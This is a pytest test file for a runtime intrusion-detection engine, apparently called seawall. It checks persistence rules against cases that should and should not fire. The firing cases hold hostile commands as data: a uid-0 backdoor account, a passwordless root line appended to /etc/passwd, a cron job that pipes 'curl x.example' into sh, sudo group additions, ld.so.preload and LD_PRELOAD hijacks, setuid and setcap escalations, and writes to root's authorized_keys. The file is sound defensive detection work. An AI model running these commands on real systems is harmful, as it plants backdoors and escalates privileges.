"""Ways to stay."""

from __future__ import annotations

import pytest
from seawall.detection.engine import Engine
from seawall.domain.runtime_events import FileCapabilities, FileChmod, FileUnlink, Listen
from seawall.domain.severity import Severity

from tests.detection.runtime_events import (
    BUILD,
    HOST,
    RULES,
    Case,
    Cases,
    caps,
    event,
    moved,
    raised,
    ran,
    read,
    rows,
    wrote,
)

CASES: Cases = {
    "RT-0701": (
        [
            ran("useradd -o -u 0 toor"),
            ran("useradd eve", tty="pts0"),
            ran("sh -c 'echo x::0:0::/root:/bin/bash >> /etc/passwd'"),
        ],
        [
            ran("useradd app", by=["dpkg --configure app"]),
            ran(
                "adduser --system app",
                by=["sh /var/lib/dpkg/info/app.postinst configure", "dpkg --configure app", "apt-get install app"],
            ),
            ran("adduser -S -D -H nginx", by=["sh", "apk add nginx"]),
            ran("useradd app", by=["/bin/sh -c x", "/kaniko/executor"]),
            ran("useradd -D"),
            ran("useradd x", where=HOST, by=["cloud-init"]),
            ran("useradd x", where=BUILD),
            ran("sh -c 'echo x > /etc/passwd.txt'"),
        ],
    ),
    "RT-0702": (
        [ran("usermod -p $6$x root"), ran("sh -c 'echo root:x | chpasswd -e'"), ran("chpasswd -e")],
        [
            ran("usermod -s /bin/sh root"),
            ran("chpasswd -e", where=HOST, by=["cloud-init"]),
            ran("sh -c 'passwd --status'"),
        ],
    ),
    "RT-0703": (
        [
            wrote("/etc/systemd/system/x.service"),
            wrote("/host/etc/kubernetes/manifests/x.yaml"),
            wrote("/etc/rc.local", "nginx"),
        ],
        [
            wrote("/etc/systemd/system/x.service", "systemctl enable x"),
            wrote("/etc/systemd/network.conf"),
            wrote("/etc/init.d/x", "sh p", by=["dpkg -i x"]),
            wrote("/etc/rc.local", writes=False),
        ],
    ),
    "RT-0704": (
        [wrote("/root/.bashrc"), wrote("/etc/profile.d/x.sh")],
        [
            wrote("/home/a/.bashrc", "/usr/bin/perl /usr/sbin/adduser a"),
            wrote("/home/a/.bashrc", "useradd -m a"),
            wrote("/root/.bashrc.d"),
            wrote("/root/.bashrc", writes=False),
            wrote("/tmp/etc/skel/.bashrc", "rsync -a /etc/ /tmp/etc/"),
        ],
    ),
    "RT-0705": (
        [wrote("/etc/cron.d/x"), moved("/var/spool/cron/crontabs/root")],
        [
            wrote("/etc/cron.d/x", "dpkg -i x"),
            wrote("/etc/cron.d/.placeholder"),
            wrote("/etc/crontabs"),
            wrote("/etc/cron.d/x", writes=False),
        ],
    ),
    "RT-0706": (
        [
            ran("crontab -"),
            ran("sh -c '(crontab -l; echo x) | crontab -'"),
            ran("bash -c 'echo \"* * * * * root curl x.example|sh\" >> /etc/crontab'"),
        ],
        [ran("crontab -l"), ran("crontab -e", tty="pts0"), ran("sh -c 'crontab -l'")],
    ),
    "RT-0707": (
        [
            ran("usermod -aG sudo eve"),
            ran("gpasswd -a eve docker"),
            ran("adduser eve wheel"),
            ran("sh -c 'echo x >> /etc/sudoers'"),
        ],
        [
            ran("usermod -aG audio eve"),
            ran("gpasswd -d eve docker"),
            ran("usermod -aG sudo x", where=HOST, by=["cloud-init"]),
        ],
    ),
    "RT-0708": (
        [wrote("/etc/ld.so.preload", "touch /etc/ld.so.preload"), moved("/host/etc/ld.so.preload")],
        [
            wrote("/etc/ld.so.preload", writes=False),
            event(FileUnlink, path="/etc/ld.so.preload"),
            wrote("/etc/ld.so.conf"),
            wrote("/etc/ld.so.preload", where=BUILD),
        ],
    ),
    "RT-0709": (
        [ran("app", environment={"LD_PRELOAD": "/tmp/x.so"}), ran("app", environment={"LD_AUDIT": "/opt/.h/x.so"})],
        [ran("app", environment={"LD_PRELOAD": "/usr/lib/libjemalloc.so.2"}), ran("app")],
    ),
    "RT-0710": (
        [ran("sshd -D"), ran("dropbear -F")],
        [ran("sshd -D", where=HOST), ran("sshd -R", by=["sshd -D"]), ran("ssh host")],
    ),
    "RT-0711": (
        [event(Listen, address="0.0.0.0", port=22)],
        [
            event(Listen, "sshd", address="0.0.0.0", port=22),
            event(Listen, address="127.0.0.1", port=22),
            event(Listen, address="0.0.0.0", port=22, where=HOST),
        ],
    ),
    "RT-0712": (
        [event(FileChmod, path="/tmp/sh", mode=0o4755, previous_mode=0o755)],
        [
            event(FileChmod, path="/tmp/sh", mode=0o755),
            event(FileChmod, path="/x", mode=0o4755, previous_mode=0o4711),
            event(FileChmod, "dpkg -i x", path="/x", mode=0o4755),
            event(FileChmod, path="/var/x", mode=0o2755 & ~0o010),
            event(FileChmod, path="/var/mail", mode=0o2775, directory=True),
        ],
    ),
    "RT-0713": (
        [ran("/srv/rootme", gained=True, uid=1000, euid=0)],
        [
            ran("ping x", gained=True, uid=1000, euid=0),
            ran("/srv/x", gained=True, uid=0),
            ran("/srv/x", uid=1000, euid=1000),
            ran("/srv/x", gained=True, uid=1000, euid=0, where=HOST),
        ],
    ),
    "RT-0714": (
        [wrote("/root/.ssh/authorized_keys"), wrote("/host/root/.ssh/authorized_keys")],
        [
            wrote("/root/.ssh/known_hosts"),
            wrote("/root/.ssh/authorized_keys", "sh x", where=HOST, by=["cloud-init"]),
            wrote("/root/.ssh/authorized_keys", writes=False),
        ],
    ),
    "RT-0716": (
        [ran("setcap cap_setuid+ep /tmp/python3"), ran("/sbin/setcap cap_dac_override,cap_chown=eip /usr/bin/vim")],
        [
            ran("setcap cap_net_bind_service=+ep /usr/bin/node"),
            ran("setcap cap_setuid+ep /x", by=["dpkg --configure -a"]),
            ran("setcap -r /usr/bin/vim"),
            ran("getcap -r /"),
        ],
    ),
    "RT-0717": (
        [
            event(FileCapabilities, "/app/x", path="/tmp/python3", permitted=caps("setuid")),
            event(
                FileCapabilities,
                "python3 -c x",
                path="/usr/bin/vim",
                permitted=caps("dac_override", "net_raw"),
                where=HOST,
            ),
        ],
        [
            event(FileCapabilities, "/app/x", path="/usr/bin/node", permitted=caps("net_bind_service")),
            event(FileCapabilities, "setcap cap_setuid+ep /x", path="/x", permitted=caps("setuid")),
            event(FileCapabilities, "x", path="/usr/bin/ping", permitted=caps("setuid"), by=["dpkg --configure -a"]),
            event(FileCapabilities, "/app/x", path="/x", permitted=0),
        ],
    ),
    "RT-0715": (
        [read("/root/.ssh/authorized_keys")],
        [read("/root/.ssh/authorized_keys", "sshd"), read("/root/.ssh/known_hosts")],
    ),
}


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_persistence(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires


ENTRY = ["/bin/bash /entrypoint.sh"]


@pytest.mark.parametrize(
    ("case", "severity"),
    [
        pytest.param(ran("useradd -u 1000 -o -m user", by=ENTRY), Severity.LOW, id="the entry script maps a volume's owner"),
        pytest.param(ran("useradd -u 1000 -o -m user", by=[*ENTRY, "tini -- /entrypoint.sh"]), Severity.LOW, id="below an init"),
        pytest.param(ran("adduser -D -u 1000 app", by=ENTRY), Severity.INFORMATIONAL, id="of a service"),
        pytest.param(ran("useradd user", by=ENTRY), Severity.MEDIUM, id="no uid"),
        pytest.param(ran("useradd -u 1000 user", by=["bash /tmp/x.sh"]), Severity.MEDIUM, id="a script that anyone may write"),
        pytest.param(ran("useradd -u 1000 user", by=["sh -c id"]), Severity.MEDIUM, id="a command line"),
        pytest.param(ran("useradd -u 1000 user", by=["sh /x.sh", "nginx -g x"]), Severity.MEDIUM, id="below a server"),
        pytest.param(ran("useradd -u 1000 user", by=ENTRY, tty="pts0"), Severity.MEDIUM, id="at a terminal"),
        pytest.param(ran("useradd -u 1000 user", by=ENTRY, where=HOST), Severity.MEDIUM, id="on the node"),
        pytest.param(ran("useradd -o -u 0 user", by=ENTRY), Severity.HIGH, id="uid 0"),
    ],
)  # fmt: skip
def test_how_grave_an_account_is(case, severity):
    (alert,) = Engine([RULES["RT-0701"]]).run([case])
    assert alert.severity is severity
